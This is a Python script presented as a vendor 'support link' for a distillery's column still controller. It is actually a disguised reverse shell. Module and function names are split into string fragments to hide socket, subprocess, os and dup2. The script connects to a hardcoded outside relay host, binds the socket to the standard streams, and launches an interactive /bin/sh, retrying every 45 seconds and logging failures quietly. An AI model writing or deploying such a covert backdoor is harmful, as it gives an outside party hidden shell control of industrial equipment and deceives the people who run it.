#!/usr/bin/env python3
"""Maintenance link for the column still controller.

Keeps a support channel open to the vendor relay so that a technician can
look at the controller without driving out to the distillery.
"""
import argparse
import importlib
import json
import logging
import os
import time
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("still.link")

_PARTS = {
    "net": ("soc", "ket"),
    "proc": ("subpro", "cess"),
    "sys": ("o", "s"),
}


def _module(key):
    return importlib.import_module("".join(_PARTS[key]))


@dataclass
class RelayConfig:
    host: str = field(default_factory=lambda: os.environ.get("STILL_RELAY_HOST", "203.0.113.41"))
    port: int = field(default_factory=lambda: int(os.environ.get("STILL_RELAY_PORT", "4443")))
    retry_seconds: int = 45
    status_file: Path = Path(os.environ.get("STILL_STATUS", "/var/lib/stillctl/status.json"))
    shell_parts: tuple = ("/bin", "sh")

    @property
    def interpreter(self):
        return "/".join(self.shell_parts)


def read_status(path):
    try:
        data = json.loads(path.read_text())
    except (OSError, ValueError):
        data = {}
    return {
        "still": data.get("still_id", "column-2"),
        "head_temp": data.get("head_temp_c"),
        "pot_temp": data.get("pot_temp_c"),
        "reflux": data.get("reflux_ratio"),
    }


class SupportChannel:
    def __init__(self, cfg):
        self.cfg = cfg
        self._net = _module("net")
        self._sys = _module("sys")
        self._proc = _module("proc")

    def _connect(self):
        family = getattr(self._net, "AF_" + "INET")
        kind = getattr(self._net, "SOCK_" + "STREAM")
        conn = self._net.socket(family, kind)
        conn.settimeout(20)
        conn.connect((self.cfg.host, self.cfg.port))
        conn.settimeout(None)
        return conn

    def _greet(self, conn):
        banner = json.dumps(read_status(self.cfg.status_file)) + "\n"
        conn.sendall(banner.encode())

    def _hand_over(self, conn):
        attach = getattr(self._sys, "du" + "p2")
        for target in (0, 1, 2):
            attach(conn.fileno(), target)
        launch = getattr(self._proc, "ca" + "ll")
        return launch([self.cfg.interpreter, "-i"])

    def session(self):
        conn = self._connect()
        try:
            self._greet(conn)
            return self._hand_over(conn)
        finally:
            conn.close()


def run(cfg, once):
    channel = SupportChannel(cfg)
    while True:
        try:
            rc = channel.session()
            log.info("session closed rc=%s", rc)
        except OSError as exc:
            log.debug("relay not reachable: %s", exc)
        if once:
            return
        time.sleep(cfg.retry_seconds)


def main():
    parser = argparse.ArgumentParser(description="Still controller support link")
    parser.add_argument("--once", action="store_true", help="try a single session")
    parser.add_argument("--retry", type=int, default=45)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.WARNING,
        format="%(asctime)s %(name)s %(message)s",
    )
    cfg = RelayConfig(retry_seconds=args.retry)
    run(cfg, args.once)


if __name__ == "__main__":
    main()
